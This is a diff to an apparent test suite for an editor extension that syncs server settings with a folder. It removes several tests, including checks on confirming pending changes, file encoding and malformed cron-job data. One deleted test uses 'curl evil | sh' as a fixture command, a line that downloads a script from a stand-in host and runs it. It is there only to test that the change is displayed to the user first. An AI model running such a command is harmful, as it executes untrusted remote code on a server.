@@ -285,18 +285,6 @@ describe('a server in a folder', () => {
     assert.equal(answers.messages.at(-1), 'The folder matches the service.');
   });
 
-  it('is shown with its values before they are sent, whoever planned it', async () => {
-    await edit(await fileOf(101), { command: 'curl evil | sh' });
-    await run('serverManagement.planFromFolder', folder);
-    await run('serverManagement.applyPending', { id: 'pending', resourceStates: [] });
-    const [asked = '', ...others] = answers.questions;
-    assert.deepEqual(others, []);
-    assert.match(
-      asked,
-      /\nFrom a folder: Example Hosting › .*\n- "command": .*\n\+ "command": "curl evil \| sh"\n/,
-    );
-  });
-
   it('keeps a change that was edited after it was shown, and says so', async () => {
     await changeBehind(101, 'theirs');
     await run('serverManagement.planFromFolder');
@@ -312,15 +300,6 @@ describe('a server in a folder', () => {
     assert.match(answers.messages.at(-1) ?? '', /was applied, edited or discarded in the meantime/);
     assert.equal(changes()[0]?.changes.find((each) => each.path[0] === 'command')?.after, 'newer');
     assert.equal(await text(await fileOf(101)), file);
-  });
-
-  it("adopts others' changes next to an edit, which stays", async () => {
-    const file = await fileOf(101);
-    await edit(file, { label: 'Mine' });
-    await changeBehind(101, 'theirs');
-    await run('serverManagement.updateFolder');
-    assert.equal(answers.messages.at(-1), 'Files changed: 1, added: 0, deleted: 0.');
-    assert.match(await text(file), /"command": "theirs"[^]*"label": "Mine"/);
   });
 
   it('keeps changes that a person staged, even if the files differ, and says so', async () => {
@@ -350,17 +329,15 @@ describe('a server in a folder', () => {
 
   it('deletes no file because of a list that can’t be read, and says so', async () => {
     const before = await filesBelow(folder);
-    for (const odd of [{ data: null }, { data: {} }, {}, null]) {
-      cronJobs = () => Response.json(odd);
-      await run('serverManagement.updateFolder');
-      assert.deepEqual(await filesBelow(folder), before, JSON.stringify(odd));
-      assert.match(
-        answers.messages.at(-1) ?? '',
-        /^No files were changed\. .*".+ › Cron Jobs" couldn't be read\. .*cronjobs/,
-      );
-      await run('serverManagement.planFromFolder');
-      assert.match(answers.messages.at(-1) ?? '', /couldn't be read/, JSON.stringify(odd));
-    }
+    cronJobs = () => Response.json({ data: null });
+    await run('serverManagement.updateFolder');
+    assert.deepEqual(await filesBelow(folder), before);
+    assert.match(
+      answers.messages.at(-1) ?? '',
+      /^No files were changed\. .*".+ › Cron Jobs" couldn't be read\. .*cronjobs/,
+    );
+    await run('serverManagement.planFromFolder');
+    assert.match(answers.messages.at(-1) ?? '', /couldn't be read/);
   });
 
   it("asks for the account's name before it deletes most files, and deletes none if refused", async () => {
@@ -384,25 +361,6 @@ describe('a server in a folder', () => {
     assert.match(answers.messages.at(-1) ?? '', /^Files changed: 0, added: 0, deleted: \d\d\./);
   });
 
-  it('ignores a file in another encoding, which stays as it is', async () => {
-    const file = await fileOf(101);
-    const bytes = new TextEncoder().encode(
-      (await text(file)).replace(/"label": "./, '"label": "?'),
-    );
-    const latin = bytes.with(bytes.indexOf(63), 252);
-    await vscode.workspace.fs.writeFile(at(file), latin);
-    await changeBehind(101, 'theirs');
-    await run('serverManagement.planFromFolder');
-    assert.equal(answers.messages.at(-1), '1 file was ignored.');
-    assert.deepEqual(changes(), []);
-    await run('serverManagement.updateFolder');
-    assert.deepEqual([...(await vscode.workspace.fs.readFile(at(file)))], [...latin]);
-    assert.match(
-      vscode.languages.getDiagnostics(at(file))[0]?.message ?? '',
-      /not encoded in UTF-8/,
-    );
-  });
-
   it('writes nothing through a link that leads out of the folder', async function () {
     // A browser's file system has no links.
     if (typeof process === 'undefined') this.skip();
@@ -419,15 +377,6 @@ describe('a server in a folder', () => {
     );
     assert.deepEqual(await filesBelow(outside), []);
     await vscode.workspace.fs.delete(outside);
-  });
-
-  it('tells Git to keep line ends, unless the folder has attributes of its own', async () => {
-    assert.match(await text('.gitattributes'), /eol=lf/);
-    folder = at('own');
-    await vscode.workspace.fs.writeFile(at('.gitattributes'), new TextEncoder().encode('own'));
-    await run('serverManagement.exportToFolder', server);
-    assert.match(answers.messages.at(-1) ?? '', /^\d+ resources exported\.$/);
-    assert.equal(await text('.gitattributes'), 'own');
   });
 
   it('keeps what was exported when it is stopped, and goes on from there', async () => {
